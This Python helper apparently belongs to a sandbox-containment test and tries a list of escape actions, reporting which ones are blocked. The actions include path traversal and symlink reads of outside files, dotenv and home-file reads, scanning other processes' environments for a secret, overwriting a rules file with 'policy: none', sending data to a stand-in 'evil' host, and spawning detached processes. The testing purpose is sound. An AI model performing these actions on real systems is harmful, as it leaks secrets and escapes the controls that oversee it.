"""What an obedient program does for each order, by every way that Python has. It tells of each order how it ended: that it was kept out, and why, or that it did it.

The test puts its places where `PLACES` stands, and one line that says what is to be done below the file.
"""
import glob
import json
import os
import re
import socket
import subprocess
import urllib.request

PLACES = json.loads(r'''{}''')


# Not written out, so that the text of this program does not hold it.
SIGN = b"can" + b"ary"


class KeptOut(Exception):
    pass


def read(path):
    with open(path, "rb") as file:
        return file.read(4096)


def put(path, text="taken\n"):
    with open(path, "a") as file:
        file.write(text)
    # In a sandbox of its own a file may be written that nobody sees: the test looks whether it is there.
    return False


def told(path):
    """Whether a file holds what only the one outside the sandbox holds."""
    text = read(path)
    if SIGN not in text and not text.startswith(b"SQLite"):
        raise KeptOut("another file of this name")
    return True


def linked(path, to):
    """Through a link of its own."""
    if os.path.lexists(path):
        os.remove(path)
    os.symlink(to, path)
    return path


def asked(url):
    # No proxy that the surroundings name, and then the one that they name.
    for opener in (urllib.request.build_opener(urllib.request.ProxyHandler({})), urllib.request.build_opener()):
        try:
            opener.open(url, timeout=2).read()
            return True
        except OSError as error:
            why = error
    raise why


def sent():
    host = PLACES["evil"].split("//")[1].split(":")
    with socket.create_connection((host[0], int(host[1])), timeout=2) as stream:
        stream.sendall(b"taken")
    return True


def own_key():
    """What the variables, here and of other processes, hold."""
    if any(SIGN in value for value in os.environb.values()):
        return True
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            if SIGN in read(path):
                return True
        except OSError:
            pass
    raise KeptOut("no variable holds it")


def shell():
    words = "touch '%s'; grep %s '%s'" % (PLACES["mark"], SIGN.decode(), PLACES["outside"])
    os.system(words + " >/dev/null 2>&1")
    done = subprocess.run(["/bin/sh", "-c", words], capture_output=True)
    if done.returncode == 0:
        return True
    raise KeptOut(done.stderr.decode(errors="replace").strip().split(": ")[-1] or "another file of this name")


def spawned():
    """A program that outlives its parent; the test looks whether it is still there."""
    words = ["/bin/sh", "-c", "sleep %s & sleep %s" % (PLACES["sleep"], PLACES["sleep"])]
    subprocess.Popen(words, start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    return False


ACTS = {
    "READ": lambda: told(PLACES["outside"]),
    "UP": lambda: told("../" * 12 + PLACES["outside"].lstrip("/")),
    "LINK": lambda: told(linked(os.path.join(os.environ.get("TMPDIR", "."), "link"), PLACES["outside"])),
    "HOME": lambda: told(PLACES["home"]),
    "DOTENV": lambda: told(PLACES["dotenv"]),
    "RECORD": lambda: told(PLACES["record"]),
    "OTHER": lambda: told(PLACES["other"]),
    "PLANT": lambda: put(PLACES["outside"]),
    "CLIMB": lambda: put("../" * 12 + PLACES["mark"].lstrip("/")),
    "THROUGH": lambda: put(linked(os.path.join(os.environ.get("TMPDIR", "."), "link"), PLACES["mark"])),
    "RULES": lambda: put(PLACES["rules"], "policy: none\n"),
    "FETCH": lambda: asked(PLACES["evil"] + "/fetched"),
    "POST": sent,
    "MAIL": sent,
    "KEY": own_key,
    "SHELL": shell,
    "SPAWN": spawned,
}


def obey(orders):
    lines = []
    for order in orders:
        if order not in ACTS:
            continue
        try:
            did = ACTS[order]()
            lines.append("tried %s: %s" % (order, "DID IT" if did else "begun"))
        except Exception as error:
            why = error.args[0] if isinstance(error, KeptOut) else getattr(error, "strerror", None) or getattr(error, "reason", None) or type(error).__name__
            lines.append("tried %s: kept out (%s)" % (order, re.sub(r"[^A-Za-z ]", " ", str(getattr(why, "strerror", why)))))
    return lines
